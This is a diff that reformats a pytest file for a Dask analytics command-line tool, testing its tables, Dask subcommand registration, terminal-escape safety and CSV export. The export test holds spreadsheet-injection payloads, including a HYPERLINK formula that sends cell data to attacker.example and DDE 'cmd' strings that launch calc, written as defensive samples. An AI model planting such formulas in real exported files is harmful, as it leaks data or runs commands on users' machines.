@@ -1,4 +1,5 @@
 """`dask-analytics` prints readable tables and exports everything."""
+
 from __future__ import annotations
 
 import csv
@@ -38,7 +39,12 @@ def recorded(tmp_path_factory):
 
 
 def run(*args):
-    out = subprocess.run([sys.executable, "-m", "dask_analytics_lab.cli", *args], capture_output=True, text=True, timeout=120)
+    out = subprocess.run(
+        [sys.executable, "-m", "dask_analytics_lab.cli", *args],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     return out.returncode, out.stdout, out.stderr
 
 
@@ -92,11 +98,26 @@ def test_clusters_show_status_end_and_how_big_they_were(written, capsys):
     write = store.ingest
     now = time.time()
     live, stopped, lost = Cluster(t0=now - 30), Cluster(t0=T0), Cluster(t0=T0 + 1000)
-    write([live.cluster(name="live-one", started=now - 60),
-           live.sample(n_workers=3, n_threads=6, memory_total=3 * 2**30)])
-    write([stopped.cluster(name="stopped-one"), stopped.sample(n_workers=4, n_threads=8, memory_total=2**32),
-           stopped.sample(n_workers=0, n_threads=0, memory_total=0, memory_used=0), stopped.stop()])
-    write([lost.cluster(name="lost-one", started=T0 + 1000), lost.sample(n_workers=2, n_threads=4, memory_total=2**31)])
+    write(
+        [
+            live.cluster(name="live-one", started=now - 60),
+            live.sample(n_workers=3, n_threads=6, memory_total=3 * 2**30),
+        ]
+    )
+    write(
+        [
+            stopped.cluster(name="stopped-one"),
+            stopped.sample(n_workers=4, n_threads=8, memory_total=2**32),
+            stopped.sample(n_workers=0, n_threads=0, memory_total=0, memory_used=0),
+            stopped.stop(),
+        ]
+    )
+    write(
+        [
+            lost.cluster(name="lost-one", started=T0 + 1000),
+            lost.sample(n_workers=2, n_threads=4, memory_total=2**31),
+        ]
+    )
     out = show(capsys, url, "clusters")
     rows = {r["name"]: r for r in table(out)}
 
@@ -123,21 +144,42 @@ def test_computations_say_what_ran_and_how_it_ended(written, capsys):
     url, store = written
     write = store.ingest
     c = Cluster()
-    write([c.cluster(), c.code("cell", "df = dd.read_parquet(p)\ndf.groupby('k').v.mean().compute()\n"),
-           c.computation("good", code=["cell"], label="read_parquet → groupby-agg",
-                         code_line="df.groupby('k').v.mean().compute()"),
-           c.computation("bad", state="erred", groups=[group("load", n_tasks=10, n_erred=3),
-                                                      group("sum", n_tasks=2, n_not_run=2)],
-                         label="load → sum", code=["cell"], code_line="total = f(x).compute()"),
-           c.computation("hung", state="running", label="slow")])
+    write(
+        [
+            c.cluster(),
+            c.code("cell", "df = dd.read_parquet(p)\ndf.groupby('k').v.mean().compute()\n"),
+            c.computation(
+                "good",
+                code=["cell"],
+                label="read_parquet → groupby-agg",
+                code_line="df.groupby('k').v.mean().compute()",
+            ),
+            c.computation(
+                "bad",
+                state="erred",
+                groups=[group("load", n_tasks=10, n_erred=3), group("sum", n_tasks=2, n_not_run=2)],
+                label="load → sum",
+                code=["cell"],
+                code_line="total = f(x).compute()",
+            ),
+            c.computation("hung", state="running", label="slow"),
+        ]
+    )
     rows = {r["computation"]: r for r in table(show(capsys, url, "computations"))}
     assert rows["good"]["what"] == "read_parquet → groupby-agg"
     assert rows["good"]["code"] == "df.groupby('k').v.mean().compute()"
     assert (rows["good"]["state"], rows["good"]["took"]) == ("finished", seconds(0.5))
-    assert (rows["bad"]["state"], rows["bad"]["what"], rows["bad"]["code"]) == ("erred", "load → sum",
-                                                                                 "total = f(x).compute()")
-    assert (rows["bad"]["tasks"], rows["bad"]["done"], rows["bad"]["erred"], rows["bad"]["never ran"]) == \
-        ("12", "7", "3", "2")
+    assert (rows["bad"]["state"], rows["bad"]["what"], rows["bad"]["code"]) == (
+        "erred",
+        "load → sum",
+        "total = f(x).compute()",
+    )
+    assert (
+        rows["bad"]["tasks"],
+        rows["bad"]["done"],
+        rows["bad"]["erred"],
+        rows["bad"]["never ran"],
+    ) == ("12", "7", "3", "2")
     # its cluster was last heard of in 2023: it will never finish
     assert rows["hung"]["state"] == "lost" and rows["hung"]["took"] != "-"
 
@@ -146,17 +188,43 @@ def test_exceptions_one_row_per_failure(written, capsys):
     url, store = written
     write = store.ingest
     c = Cluster()
-    write([c.cluster(), c.computation("comp", state="erred"),
-           c.exception("comp", "load", h="k", count=500, exc_type="KeyError", location="etl.py:41 in load",
-                       pattern="KeyError('key-<n>')", examples=["KeyError('key-7')", "KeyError('key-9')"],
-                       exception_text="KeyError('key-7')"),
-           c.exception("comp", "load", h="v", count=2, exc_type="ValueError", location="etl.py:50 in parse",
-                       pattern="bad value <n>", examples=["ValueError('bad value 3')"])])
+    write(
+        [
+            c.cluster(),
+            c.computation("comp", state="erred"),
+            c.exception(
+                "comp",
+                "load",
+                h="k",
+                count=500,
+                exc_type="KeyError",
+                location="etl.py:41 in load",
+                pattern="KeyError('key-<n>')",
+                examples=["KeyError('key-7')", "KeyError('key-9')"],
+                exception_text="KeyError('key-7')",
+            ),
+            c.exception(
+                "comp",
+                "load",
+                h="v",
+                count=2,
+                exc_type="ValueError",
+                location="etl.py:50 in parse",
+                pattern="bad value <n>",
+                examples=["ValueError('bad value 3')"],
+            ),
+        ]
+    )
     out = show(capsys, url, "exceptions", "--traceback")
     rows = {r["type"]: r for r in table(out.split("\n\n---")[0])}
     assert set(rows) == {"KeyError", "ValueError"}
-    assert rows["KeyError"]["count"] == "500" and rows["KeyError"]["location"] == "etl.py:41 in load"
-    assert rows["KeyError"]["pattern"] == "KeyError('key-<n>')" and rows["KeyError"]["example"] == "KeyError('key-7')"
+    assert (
+        rows["KeyError"]["count"] == "500" and rows["KeyError"]["location"] == "etl.py:41 in load"
+    )
+    assert (
+        rows["KeyError"]["pattern"] == "KeyError('key-<n>')"
+        and rows["KeyError"]["example"] == "KeyError('key-7')"
+    )
     assert rows["ValueError"]["example"] == "ValueError('bad value 3')"
     assert "--- KeyError etl.py:41 in load x500" in out
 
@@ -197,16 +265,30 @@ def test_recorded_strings_cannot_drive_the_terminal(tmp_path):
     store = open_store(url)
     c = Cluster()
     evil = "".join(HOSTILE.values())
-    store.ingest([
-        c.cluster(name="name" + evil, user="user" + evil),
-        c.computation("comp" + HOSTILE["clear"], label="label" + evil, code_line="line" + evil),
-        c.exception("comp" + HOSTILE["clear"], "group" + evil, exc_type="Type" + evil, location="loc" + evil,
-                    pattern="pat" + evil, examples=["ex" + evil], traceback_text="tb\n  line" + evil + "\n"),
-        c.event(topic="topic" + evil, msg="msg" + evil),
-    ])
+    store.ingest(
+        [
+            c.cluster(name="name" + evil, user="user" + evil),
+            c.computation("comp" + HOSTILE["clear"], label="label" + evil, code_line="line" + evil),
+            c.exception(
+                "comp" + HOSTILE["clear"],
+                "group" + evil,
+                exc_type="Type" + evil,
+                location="loc" + evil,
+                pattern="pat" + evil,
+                examples=["ex" + evil],
+                traceback_text="tb\n  line" + evil + "\n",
+            ),
+            c.event(topic="topic" + evil, msg="msg" + evil),
+        ]
+    )
     store.close()
-    for args in (["clusters"], ["computations"], ["exceptions", "--traceback"], ["events"],
-                 ["computations", "--cluster", "no-such" + HOSTILE["title"]]):
+    for args in (
+        ["clusters"],
+        ["computations"],
+        ["exceptions", "--traceback"],
+        ["events"],
+        ["computations", "--cluster", "no-such" + HOSTILE["title"]],
+    ):
         code, out, err = run("--store", url, *args)
         assert code in (0, 2), (args, err)
         for text in (out, err):
@@ -220,17 +302,31 @@ def test_recorded_strings_cannot_drive_the_terminal(tmp_path):
 def test_dask_analytics_is_a_dask_subcommand(recorded):
     """Registered under Dask's `dask_cli` entry point: Dask's own `dask` command runs it."""
     url, cluster_id = recorded
-    dask_cmd = [sys.executable, "-c", "import sys; from dask.cli import run_cli; sys.argv[0] = 'dask'; run_cli()"]
+    dask_cmd = [
+        sys.executable,
+        "-c",
+        "import sys; from dask.cli import run_cli; sys.argv[0] = 'dask'; run_cli()",
+    ]
     out = subprocess.run([*dask_cmd, "--help"], capture_output=True, text=True, timeout=120)
     assert out.returncode == 0 and "analytics" in out.stdout, out.stdout + out.stderr
-    out = subprocess.run([*dask_cmd, "analytics", "--store", url, "clusters"], capture_output=True, text=True,
-                         timeout=120)
+    out = subprocess.run(
+        [*dask_cmd, "analytics", "--store", url, "clusters"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert out.returncode == 0, out.stderr
     assert [r for r in table(out.stdout) if cluster_id.startswith(r["cluster"])], out.stdout
 
 
-FORMULAS = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_export_keeps_formulas_as_text(tmp_path):
@@ -239,13 +335,22 @@ def test_csv_export_keeps_formulas_as_text(tmp_path):
     url = "sqlite:///" + str(tmp_path / "formulas.db")
     store = open_store(url)
     c = Cluster()
-    store.ingest([
-        c.cluster(name=FORMULAS[0], user=FORMULAS[1]),
-        c.computation("comp-1", label=FORMULAS[2], code_line=FORMULAS[3]),
-        c.exception("comp-1", FORMULAS[4], exc_type=FORMULAS[5], location="=loc", pattern="@pat",
-                    examples=["=ex"], traceback_text="-tb"),
-        c.event(topic="+topic", msg={"text": "=msg"}),
-    ])
+    store.ingest(
+        [
+            c.cluster(name=FORMULAS[0], user=FORMULAS[1]),
+            c.computation("comp-1", label=FORMULAS[2], code_line=FORMULAS[3]),
+            c.exception(
+                "comp-1",
+                FORMULAS[4],
+                exc_type=FORMULAS[5],
+                location="=loc",
+                pattern="@pat",
+                examples=["=ex"],
+                traceback_text="-tb",
+            ),
+            c.event(topic="+topic", msg={"text": "=msg"}),
+        ]
+    )
     store.close()
     code, _, err = run("--store", url, "export", "--format", "csv", "-o", str(tmp_path / "csv"))
     assert code == 0, err
